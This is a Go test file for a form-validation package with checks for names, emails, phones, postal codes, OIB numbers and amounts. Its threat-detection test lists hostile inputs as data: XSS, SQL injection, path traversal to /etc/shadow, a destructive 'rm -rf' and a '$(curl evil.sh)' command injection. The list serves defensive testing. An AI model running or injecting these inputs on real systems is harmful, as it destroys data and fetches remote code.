package validation

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitize(t *testing.T) {
	t.Run("EscapesUnsafeCharacters", func(t *testing.T) {
		got := Sanitize(`  <b onclick="x">O'Brien / co</b>  `)
		assert.NotContains(t, got, "<")
		assert.NotContains(t, got, ">")
		assert.NotContains(t, got, `"`)
		assert.NotContains(t, got, "'")
		assert.NotContains(t, got, "/")
		assert.Contains(t, got, "&lt;")
		assert.Contains(t, got, "&#x27;")
		assert.Contains(t, got, "&#x2F;")
	})

	t.Run("Idempotent", func(t *testing.T) {
		inputs := []string{
			"Ana Kovač",
			`<script>alert("x")</script>`,
			"O'Brien & sons / import",
			"  padded  ",
			"&lt;already escaped&gt;",
			"",
		}
		for _, in := range inputs {
			once := Sanitize(in)
			assert.Equal(t, once, Sanitize(once), "sanitize must be idempotent for %q", in)
		}
	})

	t.Run("TrimsWhitespace", func(t *testing.T) {
		assert.Equal(t, "Ilica 1", Sanitize("  Ilica 1\t\n"))
	})
}

func TestContainsThreat(t *testing.T) {
	threats := []string{
		"<SCRIPT>alert(1)</script>",
		"javascript:void(0)",
		"x onerror=alert(1)",
		"1; DROP TABLE orders",
		"' UNION SELECT password FROM users",
		"../../etc/shadow",
		"..\\windows\\system32",
		"test; rm -rf --no-preserve-root",
		"$(curl evil.sh)",
	}
	for _, in := range threats {
		assert.True(t, ContainsThreat(in), "should flag %q", in)
	}

	benign := []string{
		"Ana Kovač",
		"Ilica 1, 10000 Zagreb",
		"please deliver after 17h",
		"Update on my last order: none",
	}
	for _, in := range benign {
		assert.False(t, ContainsThreat(in), "should not flag %q", in)
	}
}

func TestValidateName(t *testing.T) {
	tests := []struct {
		name  string
		input string
		valid bool
	}{
		{"Croatian diacritics", "Ana Kovač", true},
		{"Hyphenated", "Marija Horvat-Babić", true},
		{"Apostrophe", "O'Brien", true},
		{"Single char", "A", false},
		{"Empty", "", false},
		{"Whitespace only", "   ", false},
		{"Digits", "Ana123", false},
		{"Repetition run", "Aaaaaa", false},
		{"Repetition inside", "Annnnna", false},
		{"Four repeats allowed", "Hmmmm", true},
		{"Script tag", "<script>Ana</script>", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := ValidateName(tt.input)
			assert.Equal(t, tt.valid, res.Valid)
			assert.Equal(t, tt.valid, len(res.Errors) == 0)
		})
	}

	t.Run("TooLong", func(t *testing.T) {
		res := ValidateName(strings.Repeat("Ab", 51) + "c")
		assert.False(t, res.Valid)
	})
}

func TestValidateEmail(t *testing.T) {
	t.Run("Valid and lowercased", func(t *testing.T) {
		res := ValidateEmail("  Ana@Example.COM ")
		assert.True(t, res.Valid)
		assert.Equal(t, "ana@example.com", res.Sanitized)
	})

	invalid := []string{"", "not-an-email", "a@b", "a b@example.com", "@example.com"}
	for _, in := range invalid {
		t.Run("Invalid "+in, func(t *testing.T) {
			assert.False(t, ValidateEmail(in).Valid)
		})
	}
}

func TestValidatePhone(t *testing.T) {
	valid := []string{"+385991234567", "091 123 4567", "(01) 4833-333"}
	for _, in := range valid {
		assert.True(t, ValidatePhone(in).Valid, in)
	}

	invalid := []string{"", "12345", "call me", "+38599123456789012345678"}
	for _, in := range invalid {
		assert.False(t, ValidatePhone(in).Valid, in)
	}
}

func TestValidatePostalCode(t *testing.T) {
	assert.True(t, ValidatePostalCode("10000").Valid)
	assert.True(t, ValidatePostalCode(" 21000 ").Valid)

	invalid := []string{"", "1000", "100000", "1000a", "10 00"}
	for _, in := range invalid {
		assert.False(t, ValidatePostalCode(in).Valid, in)
	}
}

func TestValidateCompanyName(t *testing.T) {
	valid := []string{"Kovač d.o.o.", "3M d.d.", "Braća Horvat & sinovi", "Obrt za usluge \"Sjena\""}
	for _, in := range valid {
		assert.True(t, ValidateCompanyName(in).Valid, in)
	}

	invalid := []string{"", " ", "X", "<script>alert(1)</script>", strings.Repeat("d", 151)}
	for _, in := range invalid {
		assert.False(t, ValidateCompanyName(in).Valid, "%q", in)
	}
}

func TestValidateOIB(t *testing.T) {
	// 210 mod 11 = 1, below 2, so the check digit is 1 and the canonical
	// sequence 1234567890 closes with it.
	const validOIB = "12345678901"

	t.Run("Valid", func(t *testing.T) {
		assert.True(t, ValidateOIB(validOIB).Valid)
	})

	t.Run("ChecksumSensitivity", func(t *testing.T) {
		for i := 0; i < len(validOIB); i++ {
			flipped := []byte(validOIB)
			flipped[i] = '0' + (flipped[i]-'0'+1)%10
			res := ValidateOIB(string(flipped))
			assert.False(t, res.Valid, "flipping digit %d should invalidate", i)
		}
	})

	t.Run("RemainderTenHasNoCheckDigit", func(t *testing.T) {
		// first ten digits sum to 219, remainder 10; without the explicit
		// rejection this collides with remainder 1 and check digit 1
		for d := byte('0'); d <= '9'; d++ {
			assert.False(t, ValidateOIB("1334567890"+string(d)).Valid)
		}
	})

	t.Run("Structure", func(t *testing.T) {
		invalid := []string{"", "1234567890", "123456789012", "1234567890a"}
		for _, in := range invalid {
			assert.False(t, ValidateOIB(in).Valid, in)
		}
	})
}

func TestValidateNotes(t *testing.T) {
	assert.True(t, ValidateNotes("").Valid)
	assert.True(t, ValidateNotes("please ring twice").Valid)
	assert.False(t, ValidateNotes("<script>steal()</script>").Valid)
	assert.False(t, ValidateNotes(strings.Repeat("x", 1001)).Valid)
}

func TestValidateAmount(t *testing.T) {
	tests := []struct {
		name  string
		value float64
		valid bool
	}{
		{"Minimum", 0.01, true},
		{"Typical", 39.98, true},
		{"Maximum", 999999.99, true},
		{"Zero", 0, false},
		{"Negative", -5, false},
		{"TooLarge", 1000000, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := ValidateAmount(tt.value, MinAmount, MaxAmount)
			assert.Equal(t, tt.valid, res.Valid)
		})
	}

	t.Run("RoundsToTwoDecimals", func(t *testing.T) {
		res := ValidateAmount(19.999, MinAmount, MaxAmount)
		assert.True(t, res.Valid)
		assert.Equal(t, 20.0, res.Sanitized)
	})
}

func TestValidateQuantity(t *testing.T) {
	assert.True(t, ValidateQuantity(1).Valid)
	assert.True(t, ValidateQuantity(1000).Valid)
	assert.False(t, ValidateQuantity(0).Valid)
	assert.False(t, ValidateQuantity(-2).Valid)
	assert.False(t, ValidateQuantity(1001).Valid)
}
